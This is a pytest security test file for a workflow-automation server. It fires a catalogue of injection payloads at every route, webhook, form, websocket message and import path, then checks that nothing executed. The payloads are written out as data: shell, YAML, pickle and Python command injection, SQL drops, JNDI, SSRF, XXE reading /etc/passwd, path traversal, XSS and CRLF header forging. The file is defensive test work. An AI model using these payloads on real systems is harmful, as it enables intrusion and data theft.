"""testMaliciousPayloads of a server: what comes in over HTTP tries to become more than data.

Every payload goes into every field of every route, into what strangers send to webhooks, and into
the messages of the live stream. Afterwards nothing was executed, nobody outside was called, nothing
of the machine was said, and what is stored is what was sent.
"""

import json
import re
import socket
import sqlite3
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

import pytest
from api_people import PASSWORD
from attacked import Canary
from route_table import ELSEWHERE, TABLE, full
from server_process import ServerProcess, open_socket, wait_until
from webhook_client import hook
from websockets.exceptions import ConnectionClosed

PRODUCT = 7919 * 7907
"""What an expression makes where it is evaluated, and nobody writes."""
ENDED = {"succeeded", "failed"}
NOT_HERE = {"/session", "/links/accept", "/password_resets", "/account", "/invitations"}
"""Guesses of passwords slow each other down; tests/security/server is about them."""


@pytest.fixture(scope="module")
def canary():
    found = Canary(socket.AF_INET, "127.0.0.1")
    yield found
    found.close()


@pytest.fixture(scope="module")
def marks(tmp_path_factory):
    """A folder in which a payload that is executed leaves a file."""
    return tmp_path_factory.mktemp("marks")


@pytest.fixture(scope="module")
def payloads(canary, marks):
    mark, place = marks / "mark", f"127.0.0.1:{canary.port}"
    return {
        "expression": "{{ 7919 * 7907 }}",
        "template": "{% print(7919 * 7907) %}${7919 * 7907}#{7919 * 7907}<%= 7919 * 7907 %>",
        "format": "{0.__class__.__init__.__globals__} %s%n%x {self}",
        "attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "shell": f"; touch {mark} # $(touch {mark}) `touch {mark}` | touch {mark} && touch {mark}",
        "python": f"__import__('pathlib').Path('{mark}').touch()",
        "yaml": f"!!python/object/apply:os.system ['touch {mark}']",
        "pickle": f"cos\nsystem\n(S'touch {mark}'\ntR.",
        "sql": "'); DROP TABLE workflows; DROP TABLE users; --",
        "sql_or": "' OR 1=1 --",
        "jndi": "${jndi:ldap://" + place + "/a}",
        "inside": f"http://{place}/",
        "file": "file:///etc/passwd",
        "path": "../../../../../../etc/passwd",
        "xml": f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY h SYSTEM "http://{place}/">]><x>&f;&h;</x>',
        "script": "<script>alert(7919)</script><img src=x onerror=alert(1)>",
        "lines": 'a\r\nset-cookie: evil=1\r\n\r\n{"event": "forged"}\x1b[2J',
        "formula": f'=HYPERLINK("http://{place}/")',
        "unicode": "\u202e\ufeff\u2028 ï¼œ \ud83d\udca3".encode("utf-16", "surrogatepass").decode(
            "utf-16"
        ),
        "prototype": '{"__proto__": {"polluted": true}, "__class__": "x"}',
        "environment": '{"$env": "HOME"} $HOME %HOME% ${HOME}',
    }


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    root = tmp_path_factory.mktemp("open")
    process = ServerProcess(
        tmp_path_factory.mktemp("payloads") / "data",
        TIDEGATE_LOG_LEVEL="info",
        TIDEGATE_LOG_FORMAT="json",
        TIDEGATE_FILE_ROOTS=str(root),
    )
    process.root = root
    yield process
    process.kill()


@pytest.fixture(scope="module")
def known(owner):
    """A workflow and an execution whose ids go into addresses."""
    made = owner.post("/api/v1/workflows", json={"document": hook("known", {"path": "known"})})
    url = f"/api/v1/workflows/{made.json()['id']}/executions"
    execution = owner.post(url, json={"version": "draft", "data": {}, "mode": "sync"}).json()
    return {"workflow_id": made.json()["id"], "execution_id": execution["id"]}


def harmless(answer) -> None:
    """An answer that says what was wrong with a request, or does what it says; no more."""
    assert answer.status_code < 500 or answer.json()["code"] == "EXECUTION_FAILED", answer.text
    text = answer.text
    assert str(PRODUCT) not in text
    assert not re.search(r"root:.:0:0|Traceback|site-packages|<class '|__globals__'", text)
    assert "evil" not in answer.headers.get("set-cookie", "")
    assert "html" not in answer.headers.get("content-type", "") or "<script>alert" not in text


def leaves(body, payload):
    """The body once for each of its texts, with the payload in the place of that text."""
    if isinstance(body, dict):
        for key, value in body.items():
            for changed in leaves(value, payload):
                yield {**body, key: changed}
        yield {**body, payload: payload}
    elif isinstance(body, list):
        for at, value in enumerate(body):
            for changed in leaves(value, payload):
                yield [*body[:at], changed, *body[at + 1 :]]
    else:
        yield payload


def address(path, known, payload=None):
    """The address of a route; the payload takes the place of what is not known."""

    def part(match):
        return known.get(match[1]) or payload or "data.set"

    return full(re.sub(r"\{(\w+)\}", part, path))


WITH_BODY = [
    key
    for key, row in TABLE.items()
    if isinstance(row[-1], dict) and not any(key[1].startswith(path) for path in NOT_HERE)
]


@pytest.mark.parametrize("key", WITH_BODY, ids=" ".join)
def test_in_every_field_of_every_body(owner, known, payloads, key) -> None:
    method, path = key
    for payload in payloads.values():
        for body in leaves(TABLE[key][-1], payload):
            if "expressions" in path and "{{" in payload:
                continue  # where expressions are what is asked for
            url = address(path, {**known, "name": "mine", "node": "hook", "version": "draft"})
            harmless(owner.request(method.upper(), url, json=body, headers={"if-match": "*"}))


def test_in_every_address_query_and_header(owner, known, payloads) -> None:
    for method, path in (*TABLE, *ELSEWHERE):
        if method != "get" or path in ("/stream/events", "/oidc/start"):
            continue
        for name in ("expression", "format", "sql", "path", "lines", "script", "unicode"):
            payload = payloads[name]
            params = dict.fromkeys(("q", "cursor", "status", "topic", "node", "sort"), payload)
            url = address(path.partition("?")[0], {}, quote(payload, safe=""))
            harmless(owner.get(url, params={**params, "wait": 0}))
        shown = quote(payloads["shell"] + payloads["jndi"], safe=" ;$(){}:/")
        headers = {"user-agent": shown, "referer": shown, "accept-language": shown, "x-a": shown}
        harmless(owner.get(address(path, known), headers=headers, params={"wait": 0}))


NODES = {
    "set": {
        "type": "data.set",
        "params": {"fields": {"copy": "{{ json.body.text }}", "text": "a {{ json.body.text }}"}},
    },
    "filter": {"type": "data.filter", "params": {"condition": "{{ json.body.text != 'x' }}"}},
    "request": {"type": "http.request", "params": {"url": "{{ json.body.text }}"}},
    "header": {
        "type": "http.request",
        "params": {"url": "https://api.invalid/", "headers": {"x-a": "{{ json.body.text }}"}},
    },
    "read": {"type": "files.read", "params": {"path": "{{ json.body.text }}"}},
    "name": {
        "type": "files.write",
        "params": {"path": "{{ json.body.text }}", "format": "text", "text": "x"},
    },
    "write": {
        "type": "sql.write",
        "params": {
            "url": "sqlite:kept.db",
            "action": "statement",
            "statement": "INSERT INTO kept VALUES ($1)",
            "params": ["{{ json.body.text }}"],
        },
    },
    "xml": {
        "type": "data.convert",
        "params": {"operation": "xml_to_items", "text": "{{ json.body.text }}"},
    },
    "python": {
        "type": "code.python",
        "params": {"code": "result = items[0]['data']['body']['text']"},
    },
    "javascript": {"type": "code.javascript", "params": {"code": "items[0].data.body.text"}},
    "page": {
        "type": "flow.respond",
        "params": {
            "respond_with": "text",
            "text": "{{ json.body.text }}",
            "content_type": "text/html",
        },
    },
}


@pytest.fixture(scope="module")
def used(server, publish):
    """A webhook whose workflow uses what it was sent in every way there is."""
    with sqlite3.connect(server.root / "kept.db") as database:
        database.execute("CREATE TABLE kept (text)")
    nodes = {
        id: {**node, "settings": {"on_error": "continue", "retry": {"max_retries": 0}}}
        for id, node in NODES.items()
    }
    params = {"path": "use/{part}", "respond": "respond_node"}
    return publish(hook("use", params, nodes, [f"hook -> {id}" for id in nodes]))


def test_in_what_strangers_send_to_webhooks(server, publish, used, payloads, marks, owner) -> None:
    sent = list(payloads.values())

    def send(payload):
        with server.client() as client:
            return client.post(
                f"/webhook/use/{quote(payload, safe='')}",
                json={"text": payload, payload: [payload]},
                params={"q": payload, payload: "1"},
                headers={"x-own": quote(payload, safe=" ${}()")},
            )

    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(send, sent))
    for payload, answer in zip(sent, answers, strict=True):
        assert (answer.status_code, answer.text) == (200, payload)
        # A page of a stranger's words is not one of ours: it has no origin and no scripts.
        assert "sandbox" in answer.headers["content-security-policy"]

    def ended():
        found = publish.executions(used)
        return (
            found if len(found) == len(sent) and {one["status"] for one in found} <= ENDED else None
        )

    done, inserted = wait_until(ended, 120), set()
    for one in done:
        [item] = publish.items(one["id"], "hook")
        payload = item["json"]["body"]["text"]
        assert item["json"]["params"] == {"part": payload}
        assert item["json"]["body"] == {"text": payload, payload: [payload]}
        assert item["json"]["query"] == {"q": payload, payload: "1"}
        [made] = publish.items(one["id"], "set")
        assert (made["json"]["copy"], made["json"]["text"]) == (payload, f"a {payload}")
        ends = {
            node["id"]: (node["status"], (node.get("error") or {}).get("code"))
            for node in owner.get(f"/api/v1/executions/{one['id']}").json()["nodes"]
        }
        assert ends["request"][0] == ends["read"][0] == "failed", payload
        assert ends["request"][1] != "INTERNAL"
        if ends["write"][0] == "succeeded":  # else another one was writing
            inserted.add(payload)
    with sqlite3.connect(server.root / "kept.db") as database:
        kept = {text for (text,) in database.execute("SELECT text FROM kept")}
    assert kept == inserted and len(inserted) > 1
    written = [path for path in server.root.parent.rglob("*") if path.name in {"passwd", "mark"}]
    assert [path for path in written if not path.is_relative_to(server.root)] == []
    assert list(marks.iterdir()) == []


def test_in_names_of_files_and_fields_of_forms(server, publish, payloads, marks) -> None:
    params = {"path": "form", "respond": "last_node"}
    seen = {"type": "data.set", "params": {"keep": "none", "fields": {"seen": "{{ json }}"}}}
    publish(hook("form", params, {"set": seen}, ["hook -> set"]))
    with server.client() as client:
        for payload in payloads.values():
            answer = client.post(
                "/webhook/form",
                data={"a": payload},
                files={"doc": (payload.replace("\r", "").replace("\n", ""), b"x", "text/plain")},
            )
            assert answer.status_code == 200, answer.text
            assert answer.json()["seen"]["body"]["a"].split() == payload.split()
            xml = client.post(
                "/webhook/form", content=payload, headers={"content-type": "text/xml"}
            )
            assert xml.json()["seen"]["body"] == payload
    assert list(marks.iterdir()) == []


def test_in_messages_of_the_live_stream(server, people, payloads, known) -> None:
    authorization = f"Bearer {people.owner.key}"
    for payload in payloads.values():
        base = {"op": "sub", "id": 1, "topic": f"presence:{known['workflow_id']}", "epoch": "x"}
        for message in (*leaves(base, payload), {**base, "op": "here", "node": payload}):
            with open_socket(server, authorization=authorization) as link:
                try:
                    link.send(json.dumps(message))
                    link.send(json.dumps({"op": "sub", "id": 7, "topic": "system"}))
                    while (frame := json.loads(link.recv(timeout=30))).get("id") != 7:
                        assert str(PRODUCT) not in json.dumps(frame)
                except ConnectionClosed as closed:
                    assert closed.rcvd is not None and closed.rcvd.code == 1008


def test_in_workflows_that_are_imported(owner, payloads, marks) -> None:
    for payload in payloads.values():
        document = hook(
            f"imported {payload}", {"path": payload}, description=payload, tags=[payload]
        )
        for text in (payload, json.dumps(document), f"tidegate: 1\nname: {payload}\n"):
            harmless(owner.post("/api/v1/workflows/import", json={"text": text}))
        text = f"curl -H 'x: {payload}' -d '{payload}' -F 'f=@/etc/passwd' 'http://x.invalid/{payload}'"
        harmless(owner.post("/api/v1/node_types/from_curl", json={"text": text}))
    assert list(marks.iterdir()) == []


def test_after_all_of_it_nothing_was_executed_called_or_lost(
    server, people, owner, known, canary, marks
) -> None:
    assert canary.seen == 0
    assert list(marks.iterdir()) == []
    assert (
        owner.get(f"/api/v1/workflows/{known['workflow_id']}").json()["id"] == known["workflow_id"]
    )
    assert [user["email"] for user in owner.get("/api/v1/users").json()] == ["owner@example.org"]
    for line in server.command.stderr().splitlines():
        if line.startswith("{"):
            assert json.loads(line)["event"] != "forged"
        assert "\x1b" not in line
        assert PASSWORD not in line and people.owner.key not in line
    assert server.stop() == 0
    assert "Traceback" not in server.command.text()
